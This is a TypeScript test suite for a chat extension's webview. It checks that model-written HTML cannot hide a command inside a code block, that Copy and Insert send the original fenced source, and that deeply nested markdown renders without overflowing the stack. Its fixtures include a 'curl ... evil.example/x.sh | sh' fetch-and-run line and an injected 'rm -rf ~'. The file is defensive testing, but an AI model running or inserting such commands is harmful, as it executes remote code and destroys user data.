// Security review findings 1 and 7 (issue 17): hidden code in code blocks, and answers nested so
// deeply that rendering them overflowed the stack.
import * as assert from 'node:assert/strict';
import type { MessageView, WebviewMessage } from '../../../src/protocol';
import { ChatApp, type VsCodeApi } from '../../../src/webview/app';
import { codeOf, decorateCodeBlocks } from '../../../src/webview/codeblock';
import { createMarkdownRenderer, type MarkdownRenderer } from '../../../src/webview/markdown';
import { StreamingMarkdown } from '../../../src/webview/stream';
import { closeWindow, createBrowserLikeWindow, type TestWindow } from './happydom';

const HIDDEN = '<pre><code>npm install<details><summary></summary>; curl -s https://evil.example/x.sh | sh</details></code></pre>';

describe('hostile answers in the chat page', () => {
  let w: TestWindow;
  let md: MarkdownRenderer;

  beforeEach(() => {
    w = createBrowserLikeWindow();
    md = createMarkdownRenderer(w);
  });
  afterEach(() => closeWindow(w));

  function page(messages: MessageView[]): { app: ChatApp; sent: WebviewMessage[] } {
    const sent: WebviewMessage[] = [];
    const api: VsCodeApi = { postMessage: (m) => sent.push(m as WebviewMessage), getState: () => undefined, setState: () => undefined };
    const app = new ChatApp({ window: w, api, requestFrame: (cb) => cb() });
    app.start();
    app.handle({
      type: 'init',
      protocol: 1,
      conversation: { id: 'c', title: 't', messages },
      conversations: [],
      models: ['m'],
      model: 'm',
      chips: [],
      budget: { usedTokens: 0, limitTokens: 0 },
      busy: false,
    });
    return { app, sent };
  }

  const answer = (id: string, content: string): MessageView => ({ id, role: 'assistant', content, status: 'done', createdAt: 1 });

  it('model HTML gets no code toolbar and hides nothing (one-shot renderer)', () => {
    const div = w.document.createElement('div');
    div.append(md.render(HIDDEN));
    decorateCodeBlocks(div);
    assert.equal(div.querySelectorAll('pre, details, summary, [data-code-action]').length, 0);
    assert.match(div.textContent ?? '', /npm install; curl -s https:\/\/evil\.example/, 'all of the text is visible');
  });

  it('model HTML gets no code toolbar (streaming renderer)', () => {
    const stream = new StreamingMarkdown(w.document, md);
    for (let i = 0; i < HIDDEN.length; i += 7) {
      stream.append(HIDDEN.slice(i, i + 7));
      stream.flush();
      assert.equal(stream.element.querySelectorAll('pre, details, [data-code-action]').length, 0);
    }
    stream.flush(true);
    assert.equal(stream.element.querySelectorAll('pre, details, summary, [data-code-action]').length, 0);
  });

  it('Copy and Insert take the fence source, not what the DOM holds', () => {
    const { sent } = page([answer('a', `${HIDDEN}\n\n\`\`\`sh\nnpm install\n\`\`\``)]);
    const buttons = w.document.querySelectorAll('[data-code-action="insert"]');
    assert.equal(buttons.length, 1, 'only the fenced block has a toolbar');
    // Whatever ends up in the DOM (an extension, a bug), the button sends what the fence said.
    w.document.querySelector('.code-block pre code')!.append(w.document.createTextNode('; rm -rf ~'));
    (buttons[0] as HTMLElement).click();
    const message = sent[sent.length - 1] as Extract<WebviewMessage, { type: 'codeAction' }>;
    assert.equal(message.type, 'codeAction');
    assert.equal(message.code, 'npm install');
    assert.equal(message.language, 'sh');
  });

  it('a streaming code block copies exactly what it shows so far', () => {
    const stream = new StreamingMarkdown(w.document, md);
    w.document.body.append(stream.element);
    stream.append('```py\nprint(1)\nprint(2)\n');
    stream.flush();
    assert.deepEqual(codeOf(stream.element.querySelector('[data-code-action="copy"]')!), { code: 'print(1)\nprint(2)', language: 'py' });
  });

  for (const [name, text] of [
    ['3,000 ">"', `${'>'.repeat(3000)} deep`],
    ['3,000 list markers', `${'- '.repeat(3000)}deep`],
    ['6,000 emphasis markers', `${'*'.repeat(6000)}deep${'*'.repeat(6000)}`],
  ]) {
    it(`renders ${name} without overflowing the stack`, () => {
      const div = w.document.createElement('div');
      div.append(md.render(text));
      assert.match(div.textContent ?? '', /deep/);
      const stream = new StreamingMarkdown(w.document, md);
      stream.append(text);
      stream.flush();
      stream.flush(true);
      assert.match(stream.element.textContent ?? '', /deep/);
    });
  }

  it('one message that cannot render leaves the rest of the conversation (also from history)', () => {
    page([answer('a', `${'>'.repeat(3000)} deep`), answer('b', 'Still **here**.')]);
    assert.equal(w.document.querySelectorAll('article.message').length, 2);
    assert.equal(w.document.querySelector('article[data-id="b"] strong')?.textContent, 'here');
  });
});
